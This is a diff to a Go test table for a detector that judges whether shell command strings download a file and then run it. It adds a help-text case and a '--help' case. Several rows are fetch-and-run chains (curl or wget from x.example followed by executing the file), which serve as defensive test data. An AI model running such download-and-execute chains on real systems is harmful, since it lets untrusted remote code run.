@@ -66,6 +66,9 @@ func TestLaunderPaths(t *testing.T) {
 		{"curl -o t https://x.example/t && mv t bin/t && bin/t", true},
 		{"curl -o t https://x.example/t && cp t /usr/local/bin/ && t --help", true},
 		{"curl -o t https://x.example/t && cp t /usr/local/bin/ && other", false},
+		// help text is no download; a fetched program's --help runs it
+		{"curl --help > x.sh && sh x.sh", false},
+		{"curl -o t https://x.example/t && ./t --help", true},
 		{"curl -o t https://x.example/t && install t ~/bin/t && t", true},
 		// wget keeps the query string in the saved name
 		{"wget 'https://x.example/i.sh?v=1#x' && sh 'i.sh?v=1'", true},
